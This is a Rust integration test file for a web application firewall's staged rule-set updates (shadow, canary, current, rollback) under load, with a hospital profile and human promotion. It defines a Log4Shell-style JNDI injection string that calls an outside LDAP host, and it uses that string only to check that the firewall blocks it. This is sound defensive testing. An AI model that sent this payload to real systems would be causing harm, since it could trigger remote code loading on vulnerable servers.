//! From v4.27.0 to v4.28.0 on a proxy that serves, with our attack rules and with the hospital profile; and back where it harms.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use bedrail_waf_rules::assemble::Profile;
use bedrail_waf_rules::request::Request;
use bedrail_waf_run::follow::Follow;
use bedrail_waf_run::update::{Promotion, promote, rollback};

use crate::kit::{Kit, ask, core_rule_set, later, read_answer, start, status_of, tell};

const ATTACK: &str = "/?q=${jndi:ldap://198.51.100.7/a}";
const BAD_FOR_REPORTS: &str =
    "SecRule REQUEST_URI \"@beginsWith /report\" \"id:100001,phase:1,deny,status:403,log\"\n";

/// The first rule set decides, promoted by a person.
fn with_first(kit: &Kit, tree: &std::path::Path, follow: &mut Follow) {
    assert!(kit.update(tree, "", start()).candidate.is_some());
    let desk = kit.desk();
    promote(&desk, &Promotion::Current, "A. Person, clinical engineering", start()).unwrap();
    tell(&follow.tick(&desk, &kit.control(), start()).unwrap());
    assert_eq!(kit.get(ATTACK, 1), 403);
    assert_eq!(kit.get("/", 1), 200);
}

fn open_socket(kit: &Kit) -> TcpStream {
    let mut stream = kit.connect();
    let request = "GET /socket HTTP/1.1\r\nHost: pump.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    stream.write_all(request.as_bytes()).unwrap();
    assert_eq!(status_of(&read_answer(&mut stream)), 101);
    stream
}

fn echo(stream: &mut TcpStream, text: &str) {
    // A text of a client, with a mask that changes nothing (RFC 6455 §5.2).
    let mut frame = vec![0x81, 0x80 | u8::try_from(text.len()).unwrap(), 0, 0, 0, 0];
    frame.extend(text.as_bytes());
    stream.write_all(&frame).unwrap();
    let mut back = vec![0; frame.len()];
    stream.read_exact(&mut back).unwrap();
    assert_eq!(back, frame);
}

/// Requests on connections that stay open, from many clients, until told to stop.
fn load<'s>(
    scope: &'s std::thread::Scope<'s, '_>,
    kit: &'s Kit,
    stop: &'s AtomicBool,
    served: &'s AtomicU64,
    wrong: &'s Mutex<Vec<String>>,
) {
    for first in 0..3_u8 {
        scope.spawn(move || {
            let mut stream = kit.connect();
            let mut client = first;
            while !stop.load(Ordering::Relaxed) {
                client = client.wrapping_add(3);
                for (target, due) in [("/patients?name=garcia", 200), (ATTACK, 403)] {
                    let status = ask(&mut stream, target, client);
                    if status != due {
                        wrong.lock().unwrap().push(format!("{target} {status}"));
                    }
                    served.fetch_add(1, Ordering::Relaxed);
                }
                // Beside it a rule set is compiled and tested, on two cores.
                std::thread::sleep(Duration::from_millis(20));
            }
        });
    }
}

fn wait_for(served: &AtomicU64, more: u64) {
    let (from, begun) = (served.load(Ordering::Relaxed), Instant::now());
    while served.load(Ordering::Relaxed) < from + more {
        assert!(begun.elapsed() < Duration::from_secs(120), "requests are not served");
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[test]
fn from_one_release_to_the_next_under_load() {
    from_old_to_new(Profile::Plain);
}

#[test]
fn from_one_release_to_the_next_under_load_with_the_hospital_profile() {
    from_old_to_new(Profile::Hospital);
}

fn from_old_to_new(profile: Profile) {
    let (Some(kit), Some(old), Some(new)) =
        (Kit::new(profile), core_rule_set("4.27.0"), core_rule_set("4.28.0"))
    else {
        return;
    };
    let mut follow = Follow::default();
    with_first(&kit, &old, &mut follow);
    let mut socket = open_socket(&kit);
    let (stop, served, wrong) = (AtomicBool::new(false), AtomicU64::new(0), Mutex::new(Vec::new()));
    let roles = || -> Vec<String> {
        let judges = kit.control().status().unwrap().judges;
        judges
            .iter()
            .flat_map(|it| it.roles.iter().map(|role| format!("{} {role}", &it.rule_set[..6])))
            .collect()
    };
    std::thread::scope(|scope| {
        load(scope, &kit, &stop, &served, &wrong);
        let updated = kit.update(&new, "", later(10));
        assert!(updated.candidate.is_some());
        let found = updated.difference.unwrap();
        println!(
            "difference: {} judged, {} new blocks, {} lost, {} rules differ, slow end {:?} µs",
            found.judged,
            found.new_blocks.len(),
            found.lost_blocks.len(),
            found.per_rule.len(),
            found.slow_micros
        );
        let (desk, proxy) = (kit.desk(), kit.control());
        let mut tick = |seconds: i64| {
            let said = follow.tick(&desk, &proxy, later(seconds)).unwrap();
            tell(&said);
            said.iter().map(|it| it.text.clone()).collect::<Vec<_>>().join("\n")
        };
        assert!(tick(20).contains("is in shadow at pump"));
        assert!(roles().contains(&"4.28.0 shadow".to_owned()), "{:?}", roles());
        echo(&mut socket, "shadow");
        wait_for(&served, 60);
        tick(50);
        wait_for(&served, 60);
        assert!(tick(90).contains("(canary)"));
        assert!(roles().contains(&"4.28.0 canary 50 % of clients at pump".to_owned()), "{:?}", roles());
        echo(&mut socket, "canary");
        wait_for(&served, 60);
        tick(120);
        wait_for(&served, 60);
        assert!(tick(160).contains("is current (every site is through its stages"));
        let now = roles();
        assert!(
            now.contains(&"4.28.0 current".to_owned()) && now.contains(&"4.27.0 standby".to_owned()),
            "{now:?}"
        );
        wait_for(&served, 60);
        // A flood of attacks is what the firewall is for.
        assert!(!tick(200).contains("current again"));
        stop.store(true, Ordering::Relaxed);
    });
    echo(&mut socket, "still here");
    assert_eq!(*wrong.lock().unwrap(), Vec::<String>::new());
    println!("{} requests, 0 wrong", served.load(Ordering::Relaxed));
    // One step back by a person, and no second one.
    let desk = kit.desk();
    tell(&rollback(&desk, "A. Person", "to be tried", later(210)).unwrap());
    tell(&follow.tick(&desk, &kit.control(), later(211)).unwrap());
    assert!(roles().contains(&"4.27.0 current".to_owned()), "{:?}", roles());
    assert!(rollback(&desk, "A. Person", "once more", later(212)).is_err());
    assert_eq!(kit.get(ATTACK, 1), 403);
}

fn record(kit: &Kit) {
    let folder = kit.settings.state.join("waf/good");
    std::fs::create_dir_all(&folder).unwrap();
    let lines: Vec<String> = (0..4)
        .map(|it| Request::new(format!("report {it}"), "GET", format!("/report/{it}")).to_line())
        .collect();
    std::fs::write(folder.join("pump.jsonl"), lines.join("\n")).unwrap();
}

#[test]
fn what_harms_in_canary_is_taken_back_by_the_next_look() {
    let (Some(kit), Some(old), Some(new)) =
        (Kit::new(Profile::Plain), core_rule_set("4.27.0"), core_rule_set("4.28.0"))
    else {
        return;
    };
    let mut follow = Follow::default();
    with_first(&kit, &old, &mut follow);
    assert!(kit.update(&new, BAD_FOR_REPORTS, later(10)).candidate.is_some());
    let (desk, proxy) = (kit.desk(), kit.control());
    tell(&follow.tick(&desk, &proxy, later(20)).unwrap());
    let by = "A. Person, clinical engineering";
    tell(&promote(&desk, &Promotion::Every, by, later(30)).unwrap());
    tell(&follow.tick(&desk, &proxy, later(31)).unwrap());
    let stopped = |kit: &Kit| (0..40).filter(|client| kit.get("/report/1", *client) == 403).count();
    let in_canary = stopped(&kit);
    assert!((5..36).contains(&in_canary), "{in_canary} of 40 clients");
    // A person approved reports as known-good traffic.
    record(&kit);
    let begun = Instant::now();
    let said = follow.tick(&desk, &proxy, later(32)).unwrap();
    let took = begun.elapsed();
    tell(&said);
    assert!(said.iter().any(|it| it.alert && it.text.contains("known-good")), "{said:?}");
    println!("{in_canary} of 40 clients in canary; taken back within {took:?}");
    assert!(took < Duration::from_secs(10), "{took:?}");
    assert_eq!(stopped(&kit), 0);
    assert_eq!(kit.get(ATTACK, 1), 403);
}

#[test]
fn what_harms_as_current_brings_the_old_one_back_once() {
    let (Some(kit), Some(old), Some(new)) =
        (Kit::new(Profile::Plain), core_rule_set("4.27.0"), core_rule_set("4.28.0"))
    else {
        return;
    };
    let mut follow = Follow::default();
    with_first(&kit, &old, &mut follow);
    assert!(kit.update(&new, BAD_FOR_REPORTS, later(10)).candidate.is_some());
    let (desk, proxy) = (kit.desk(), kit.control());
    promote(&desk, &Promotion::Current, "A. Person", later(20)).unwrap();
    tell(&follow.tick(&desk, &proxy, later(21)).unwrap());
    assert_eq!(kit.get("/report/1", 1), 403);
    record(&kit);
    let said = follow.tick(&desk, &proxy, later(22)).unwrap();
    tell(&said);
    assert!(said.iter().any(|it| it.alert && it.text.contains("current again")), "{said:?}");
    assert_eq!(kit.get("/report/1", 1), 200);
    let said = follow.tick(&desk, &proxy, later(23)).unwrap();
    assert!(said.is_empty(), "{said:?}");
}
